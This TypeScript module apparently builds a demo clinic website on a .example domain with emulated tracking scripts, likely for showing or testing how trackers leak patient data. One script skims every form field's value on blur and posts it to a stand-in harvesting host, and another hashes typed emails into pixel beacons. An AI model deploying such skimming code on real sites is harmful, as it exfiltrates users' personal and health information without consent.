/** The made-up practice of the demo. `.example` belongs to nobody (RFC 2606), so no real site can be meant. */
export const demoHost = 'www.harborstreet.example'
export const demoUrl = `https://${demoHost}/`

type DemoPage = { title: string; body: string; tags: ReadonlyArray<string> }

const pixel = '<script async src="https://connect.facebook.net/en_US/fbevents.js"></script>'
const measurement = '<script async src="https://www.googletagmanager.com/gtag/js?id=G-HARB0RDEM0"></script>'
const follower = '<script async src="https://widget.formharvest.example/follow.js"></script>'

const field = (label: string, name: string, type = 'text') =>
  `<p><label>${label} <input name="${name}" type="${type}"></label></p>`
const identity =
  field('First name', 'first_name') + field('Email', 'email', 'email') + field('Mobile phone', 'phone', 'tel')

export const demoPages: Readonly<Record<string, DemoPage>> = {
  '/': {
    title: 'Harbor Street Family Clinic',
    tags: [measurement],
    body: '<p>Family medicine by the harbor, by appointment.</p>',
  },
  '/book-appointment': {
    title: 'Book an appointment',
    tags: [measurement, pixel, follower],
    body: `<form action="/book-appointment" method="post">${identity}<p><label>Reason for visit <textarea name="reason"></textarea></label></p><button>Request visit</button></form>`,
  },
  '/patient-portal/login': {
    title: 'Patient portal sign-in',
    tags: [measurement],
    body: `<form action="/patient-portal/login" method="post">${field('Email', 'username', 'email')}${field('Password', 'password', 'password')}<button>Sign in</button></form>`,
  },
  '/conditions/knee-pain': {
    title: 'Knee pain',
    tags: [pixel],
    body: '<p>Causes, symptoms and treatment of knee pain.</p>',
  },
  '/privacy-policy': {
    title: 'Privacy policy',
    tags: [],
    body: '<p>We do not share your personal information with third parties.</p>',
  },
}

export function renderDemoPage({ title, body, tags }: DemoPage): string {
  const menu = Object.entries(demoPages).map(([to, page]) => `<li><a href="${to}">${page.title}</a></li>`)
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>
<meta name="viewport" content="width=device-width, initial-scale=1">${tags.join('')}</head>
<body><nav><ul>${menu.join('')}</ul></nav><main><h1>${title}</h1>${body}</main></body></html>`
}

/*
 * Tags of our own that speak the wire formats of the ones a practice really meets (trackers.md); no line of a vendor's
 * code is in them, and what they send ends at the demo's own server.
 */
const pixelCode = `(function () {
  var query = function (event) { return '?id=481500000000042&ev=' + event + '&dl=' + encodeURIComponent(location.href) + '&rl=&if=false&ts=' + Date.now() + '&v=2.9.170&fbp=fb.1.1.1' }
  var hash = function (text) { return crypto.subtle.digest('SHA-256', new TextEncoder().encode(text.trim().toLowerCase())).then(function (bytes) {
    return Array.from(new Uint8Array(bytes), function (one) { return one.toString(16).padStart(2, '0') }).join('') }) }
  new Image().src = 'https://www.facebook.com/tr/' + query('PageView')
  document.addEventListener('change', function (event) {
    if (event.target.type === 'email') hash(event.target.value).then(function (value) { new Image().src = 'https://www.facebook.com/tr/' + query('SubscribedButtonClick') + '&udff[em]=' + value })
  }, true)
})()`
const measurementCode = `(function () {
  fetch('https://www.google-analytics.com/g/collect?v=2&tid=G-HARB0RDEM0&gtm=45je&cid=1.1&en=page_view&dl=' + encodeURIComponent(location.href) + '&dt=' + encodeURIComponent(document.title), { method: 'POST', keepalive: true, mode: 'no-cors' })
})()`
const followerCode = `(function () {
  document.addEventListener('blur', function (event) {
    if (event.target.value) fetch('https://widget.formharvest.example/partial', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ field: event.target.name, value: event.target.value }) })
  }, true)
})()`

/** Script by host; every other address of these hosts only takes what it is sent. */
export const demoScripts: Readonly<Record<string, { path: string; code: string }>> = {
  'connect.facebook.net': { path: '/en_US/fbevents.js', code: pixelCode },
  'www.googletagmanager.com': { path: '/gtag/js', code: measurementCode },
  'widget.formharvest.example': { path: '/follow.js', code: followerCode },
}
